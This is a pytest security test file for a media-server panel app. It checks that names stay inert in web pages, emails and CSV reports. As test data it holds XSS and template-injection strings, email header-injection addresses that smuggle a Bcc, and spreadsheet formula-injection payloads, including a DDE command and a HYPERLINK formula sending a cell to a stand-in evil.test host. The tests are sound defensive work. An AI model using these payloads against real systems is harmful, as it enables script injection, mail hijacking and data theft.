"""Names come from media servers and their users: they stay text in every page, mail and table, whatever they hold."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient

from panel.extensions import db
from panel.models import AuditEntry, Email, EmailStatus, Library, Migration, PossibleTwin, SentRequest, Setting, User
from panel.services import mail, notices, proof_report, report, result_mail
from panel.services.claims import links
from panel.simulators.http import Fault
from tests.mission.mailbox import Mailbox, running_mailbox
from tests.scene import Scene
from tests.web.asking import by_htmx
from tests.web.test_roles import routes

#: Leaves an attribute of either quote, then begins an element; and a template, should anybody render it as one.
TRICK = "\"'><mark-x on=1>&lt;{{ 7 * 191 }}"
#: What a server says when it refuses.
SAID = '{"message": "No <mark-x>&quot; \\"\'><mark-x src=x onerror=1> {{ 7 * 191 }}"}'


class Tags(HTMLParser):
    """The names of all elements and attributes, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One element."""
        self.names |= {tag, *(name for name, _ in attrs)}
        self.text += " ".join(value or "" for _, value in attrs)

    def handle_data(self, data: str) -> None:
        """What is read."""
        self.text += data


def read(document: str) -> Tags:
    """A page or a part of one."""
    tags = Tags()
    tags.feed(document)
    return tags


def assert_harmless(document: str, where: str) -> bool:
    """Nothing of the trick has become markup; answers whether it was there at all."""
    tags = read(document)
    assert not tags.names & {"mark-x", "onerror", "on"}, where
    assert "1337" not in tags.text.replace("{{ 7 * 191 }}", ""), where
    return "<mark-x" in tags.text


@pytest.fixture
def run(scene: Scene) -> Migration:
    """A run on a stage where everything that has a name has that one: one user moves, one fails, one stays."""
    for kind, name in (("emby", "Cedar"), ("jellyfin", "Birch"), ("plex", "Oak")):
        side = scene.add_server(kind, f"{name} {TRICK}"[:100])
        side.row.problem = TRICK
    scene.plan(f"Plan {TRICK}")
    for name in ("Alice", "Bob"):
        scene.person(f"{name} {TRICK}", plan=f"Plan {TRICK}")
    scene.person(f"Lapsed {TRICK}", plan=f"Plan {TRICK}", days=(-40, -10))
    scene.person(f"Plexa {TRICK}", on=scene.sides[2], plan=None)
    scene.target.sim.faults.append(Fault(method="POST", path="/Users/.*/Policy", skip=1, times=1, status=400, body=SAID))
    for library in db.session.scalars(db.select(Library)):
        library.group.name = f"{library.group.name} {TRICK}" if library.group and TRICK not in library.group.name else library.group.name
    db.session.commit()
    done = scene.move()
    assert "failed" in scene.outcome(done).values() and "moved" in scene.outcome(done).values()
    for library in db.session.scalars(db.select(Library)):
        library.name = f"{library.name} {TRICK}"
    for user in db.session.scalars(db.select(User)):
        user.notes, user.plex_username, user.jellyfin_name = TRICK, TRICK, TRICK
    db.session.add(PossibleTwin(user_id=1, other_id=2, why=TRICK))
    mail_row = Email(event="system_message", recipient=TRICK, subject=TRICK, text=TRICK, html="<p></p>", error=TRICK)
    mail_row.migration_id = done.id
    db.session.add(mail_row)
    db.session.add(AuditEntry(by=TRICK, action=TRICK, subject=TRICK, detail=TRICK))
    done.note = done.problem = done.wake_reason = TRICK
    db.session.commit()
    return done


def test_names_are_text_on_every_page(app: Flask, run: Migration, ada: FlaskClient) -> None:
    token = links.make(links.CLAIM, run.moves[0].id)
    db.session.commit()
    addresses = [*(address for _, _, address in routes(app, ("GET",))), f"/claim/{token}", "/users?search=<mark-x>", "/audit?by=<mark-x>"]
    seen = 0
    for address in addresses:
        for headers in ({}, by_htmx("dialog")):
            answer = ada.get(address, headers=headers)
            if answer.mimetype == "text/html":
                seen += assert_harmless(answer.text, address)
    assert seen > 40, "the names were shown"


def test_names_are_text_in_the_html_of_mails(app: Flask, run: Migration) -> None:
    mails = [notices.render(notices.SYSTEM_MESSAGE, result_mail.values_of(run))]
    mails += [notices.render(notices.ACCOUNT_MOVED, notices.account_moved_values(move, "https://panel.example/x")) for move in run.moves]
    assert all(assert_harmless(mail.html, "mail") for mail in mails)
    assert all("\n" not in mail.subject and "\r" not in mail.subject for mail in mails)


@pytest.fixture
def mailbox(app: Flask) -> Iterator[Mailbox]:
    """A mail server that the installation knows."""
    with running_mailbox() as running:
        yield running


#: One address to who reads it as it is, two to who decodes it (RFC 2047).
ENCODED = [
    "=?utf-8?q?eve=40evil.test=2C?=a@example.test",
    "a@=?utf-8?q?b.test=2Ceve=40evil.test?=",
    "=?utf-8?b?ZXZlQGV2aWwudGVzdCw=?=a@example.test",
    "=?utf-8?q?eve=40evil.test=2C?= <a@example.test>",
]
ODD = [
    ("a@example.test\nBcc: eve@evil.test", "Hello"),
    ("a@example.test\r\n\r\nx", "Hello"),
    ("a@example.test\x00", "Hello"),
    ("", "Hello"),
    ("@", "Hello"),
    ("a@example.test, eve@evil.test", "Hello"),
    # To who reads addresses these are somebody else's.
    ("a(at home)@example.test", "Hello"),
    ("eve<a@example.test", "Hello"),
    ("friends:a@example.test;", "Hello"),
    *((recipient, "Hello") for recipient in ENCODED),
    ("a@example.test", "Hello\nBcc: eve@evil.test"),
    ("a@example.test", "Hello\r\n\r\nx"),
]


@pytest.mark.parametrize(("recipient", "subject"), ODD)
def test_an_address_or_a_subject_with_more_in_it_is_sent_to_nobody(app: Flask, mailbox: Mailbox, recipient: str, subject: str) -> None:
    odd = Email(event=notices.ACCOUNT_MOVED, recipient=recipient, subject=subject, text="Text", html="<p>Text</p>")
    fine = Email(event="system_message", recipient="a@example.test", subject="Hello", text="Text", html="<p>Text</p>")
    db.session.add_all([odd, fine])
    db.session.commit()
    for row in (odd, fine):
        mail.send(row.id)
    assert (odd.status, fine.status) == (EmailStatus.FAILED, EmailStatus.SENT)
    assert mailbox.recipients == [["a@example.test"]], "the mail server takes what is fine"
    assert all(message["Bcc"] is None and message.get_all("To") == ["a@example.test"] for message in mailbox.mails)


@pytest.mark.parametrize("recipient", ENCODED)
def test_an_address_that_decodes_to_more_is_sent_to_nobody_by_any_mail(app: Flask, mailbox: Mailbox, recipient: str) -> None:
    row = Email(event=notices.SYSTEM_MESSAGE, recipient=recipient, subject="Hello", text="Text", html="<p>Text</p>")
    db.session.add(row)
    db.session.commit()
    mail.send(row.id)
    assert row.status is EmailStatus.FAILED
    with pytest.raises(mail.MailRefused, match="check its addresses"):
        mail.send_test(recipient, Setting.current())
    assert mailbox.recipients == []


def test_a_mail_goes_to_the_addresses_that_were_looked_at_whatever_its_head_says(app: Flask, mailbox: Mailbox) -> None:
    message = EmailMessage()
    message["From"], message["To"] = "panel@example.test", "a@example.test, eve@evil.test"
    message.set_content("Text")
    mail.deliver(message, ["a@example.test"], Setting.current())
    assert mailbox.recipients == [["a@example.test"]]


@pytest.mark.parametrize(
    "name", ["=?utf-8?q?x=0ABcc:_eve=40evil.test=0A=0ARead_this?=", "=?utf-8?b?SGVsbG8NCkJjYzogZXZlQGV2aWwudGVzdA==?=", "=?="]
)
def test_a_subject_is_text_that_nobody_decodes(app: Flask, mailbox: Mailbox, name: str) -> None:
    row = Email(event=notices.SYSTEM_MESSAGE, recipient="a@example.test", subject=f"Run of {name}", text="Text", html="<p>Text</p>")
    db.session.add(row)
    db.session.commit()
    mail.send(row.id)
    (message,) = mailbox.mails
    assert message["Bcc"] is None and message["Subject"].replace(" ", "") == f"Runof{name}".replace(" ", "")
    assert [part.get_content().strip() for part in message.iter_parts()] == ["Text", "<p>Text</p>"]  # type: ignore[attr-defined]


FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.test?"&A1)',
    "=cmd|' /C calc'!A0",
    "x;=1+1",
    'x"\n=1+1',
    "%0A=1+1",
    *(f"{unseen}=1+1" for unseen in "\x0b\x0c\x1c\x1f\x7f\x85\xad\u2000\u2003\u2028\u3000\u200b\u200e\u202e\u2060\ufe0f\U000e0020"),
    "x;\u200b=1+1",
    "x,\x0b\u2003-1",
    "﹦1+1",
    "−1+1",
]


def test_no_cell_of_a_table_is_a_formula(app: Flask, pair: Scene) -> None:
    move = pair.move().moves[0]
    for name in FORMULAS:
        move.name = move.detail = name
        db.session.commit()
        no_formula_in(report.run_csv(move.migration), name, columns=4)


def test_no_cell_of_the_proof_is_a_formula(app: Flask, pair: Scene) -> None:
    run = pair.move()
    row, server = db.session.scalars(db.select(SentRequest)).first(), pair.target.row
    assert row and row.user_name
    for name in FORMULAS:
        row.user_name = server.name = row.result = row.path = name
        db.session.commit()
        no_formula_in(proof_report.sent_csv(run), name, columns=len(proof_report.COLUMNS))


def no_formula_in(text: str, name: str, columns: int) -> None:
    """Whatever parts the cells, none is a formula; the name is there, on one line."""
    on_one_line = re.sub(r"[\t-\r\x1c-\x1e\x85\u2028\u2029]", " ", name)
    assert on_one_line.replace("'", "") in text.replace('""', '"').replace("'", ""), repr(name)
    for delimiter in ",;\t":
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert delimiter != "," or all(len(row) == columns for row in rows), name
        assert not [cell for row in rows for cell in row if looks_like_a_formula(cell)], (delimiter, rows)


def looks_like_a_formula(cell: str) -> bool:
    """As a careless program sees it: what shows as nothing before it does not count, nor how wide or high the sign is."""
    seen = [one for one in cell if unicodedata.category(one)[0] not in "CZM" and one != '"']
    return unicodedata.normalize("NFKC", "".join(seen[:1])) in tuple("=+-@−")


def test_would_notice_a_formula() -> None:
    assert looks_like_a_formula(" =1") and looks_like_a_formula("\u200b＝1") and not looks_like_a_formula("'=1")


def test_the_table_is_a_file_to_be_stored(app: Flask, run: Migration, ada: FlaskClient) -> None:
    answer = ada.get(f"/migrations/{run.id}.csv")
    assert answer.mimetype == "text/csv" and answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
